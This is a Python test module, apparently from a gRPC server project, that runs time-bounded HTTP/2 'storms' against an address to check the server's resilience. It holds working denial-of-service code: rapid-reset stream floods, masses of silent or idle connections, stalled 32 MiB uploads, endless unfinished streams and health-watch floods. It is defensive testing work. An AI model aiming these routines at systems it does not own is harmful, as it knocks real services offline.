"""What a stranger can do before a token is looked at: `python -m tests.attacks.storms NAME ADDRESS`, bounded in all.

Each storm lasts as long as it is told to, and prints how often it did what it does.
"""

import argparse
import json
import os
import resource
import struct
import time
from contextlib import suppress

from tests.attacks.http2 import CANCEL, PIECE, RST_STREAM, Raw, fields, frame

METHOD = "/bedrock.v1.CatalogService/GetServerInfo"
HEALTH_WATCH = "/grpc.health.v1.Health/Watch"
SEND_SECONDS = 0.5
"""How long a peer may take nothing before a storm gives that connection up."""
MEBIBYTE = 1 << 20
REQUEST = 32 * MEBIBYTE - 1024


class Crowd:
    """Connections that are opened again when the peer closes them, until the time is over."""

    def __init__(self, address: str, seconds: float, *, greet: bool = True) -> None:
        self._address, self._greet = address, greet
        self._until = time.monotonic() + seconds
        self.open: list[Raw] = []
        self.opened = self.refused = self.dropped = 0

    @property
    def going_on(self) -> bool:
        return time.monotonic() < self._until

    def fill(self, count: int) -> list[Raw]:
        """Have so many connections; return those that are new."""
        left = [each for each in self.open if not each.closed]
        self.dropped += len(self.open) - len(left)
        for each in self.open:
            if each.closed:
                each.close()
        new: list[Raw] = []
        while len(left) + len(new) < count and self.going_on:
            try:
                new.append(Raw(self._address, greet=self._greet))
                new[-1].socket.settimeout(SEND_SECONDS)
                self.opened += 1
            except OSError:
                self.refused += 1
                time.sleep(0.01)
                break
        self.open = left + new
        return new

    def read(self) -> None:
        for each in self.open:
            while each.read():
                pass

    def close(self) -> None:
        for each in self.open:
            each.close()

    def told(self) -> dict[str, int]:
        return {"connections": self.opened, "refused": self.refused, "dropped": self.dropped}


def rapid_reset(address: str, seconds: float, connections: int = 4) -> dict[str, int]:
    """Open streams and reset each at once: a hundred in one piece, on each connection in turn."""
    crowd, block, resets = Crowd(address, seconds), fields(METHOD), 0
    while crowd.going_on:
        crowd.fill(connections)
        for each in crowd.open:
            piece = b"".join(
                each.open(block) + frame(RST_STREAM, 0, each.last, struct.pack(">I", CANCEL)) for _ in range(100)
            )
            each.send(piece)
            resets += 100
        crowd.read()
    crowd.close()
    return {"resets": resets, **crowd.told()}


def silent(address: str, seconds: float, connections: int = 1_100) -> dict[str, int]:
    """Connect, and say nothing."""
    return _only_connected(Crowd(address, seconds, greet=False), connections)


def idle(address: str, seconds: float, connections: int = 300) -> dict[str, int]:
    """Connect, greet, and call nothing."""
    return _only_connected(Crowd(address, seconds), connections)


def _only_connected(crowd: Crowd, connections: int) -> dict[str, int]:
    while crowd.going_on:
        crowd.fill(connections)
        crowd.read()
        time.sleep(0.05)
    crowd.close()
    return crowd.told()


def uploads(address: str, seconds: float, connections: int = 10, streams: int = 2) -> dict[str, int]:
    """Upload all of a request of 32 MiB but its last byte, as fast as the peer lets, and stop there."""
    crowd, block, sent, piece = Crowd(address, seconds), fields(METHOD), 0, bytes(PIECE)
    left: dict[tuple[Raw, int], int] = {}
    while crowd.going_on:
        for new in crowd.fill(connections):
            for _ in range(streams):
                new.send(new.open(block))
                left[new, new.last] = REQUEST - 1
                new.upload(new.last, b"\0" + struct.pack(">I", REQUEST))
        crowd.read()
        moved = 0
        for each, stream in left:
            for _ in range(16):
                step = each.upload(stream, piece[: left[each, stream]])
                left[each, stream] -= step
                moved += step
        sent += moved
        if not moved:
            time.sleep(0.02)
    crowd.close()
    return {"mebibytes": sent // MEBIBYTE, **crowd.told()}


def unfinished(address: str, seconds: float, connections: int = 10, streams: int = 500) -> dict[str, int]:
    """Open streams, and never end their requests."""
    crowd, block = Crowd(address, seconds), fields(METHOD)
    opened = 0
    while crowd.going_on:
        for new in crowd.fill(connections):
            new.send(b"".join(new.open(block) for _ in range(streams)))
            opened += streams
        crowd.read()
        time.sleep(0.05)
    crowd.close()
    return {"streams": opened, **crowd.told()}


def health_watches(address: str, seconds: float, connections: int = 10, streams: int = 500) -> dict[str, int]:
    """Watch the health of the server, without end."""
    crowd, block, body = Crowd(address, seconds), fields(HEALTH_WATCH), bytes(5)
    opened = 0
    while crowd.going_on:
        for new in crowd.fill(connections):
            for _ in range(streams):
                new.send(new.open(block))
                new.upload(new.last, body, end=True)
                opened += 1
        crowd.read()
        time.sleep(0.05)
    crowd.close()
    return {"streams": opened, **crowd.told()}


STORMS = {
    "rapid reset": rapid_reset,
    "silent connections": silent,
    "idle connections": idle,
    "stalled uploads": uploads,
    "unfinished streams": unfinished,
    "health watches": health_watches,
}


def main() -> None:
    arguments = argparse.ArgumentParser()
    arguments.add_argument("name", choices=STORMS)
    arguments.add_argument("address")
    arguments.add_argument("--seconds", type=float, default=10)
    given = arguments.parse_args()
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, max(soft, 4_096)), hard))
    with suppress(OSError):
        os.nice(10)  # it comes from other machines, and takes no CPU of the server's
    print(json.dumps(STORMS[given.name](given.address, min(given.seconds, 60))), flush=True)


if __name__ == "__main__":
    main()
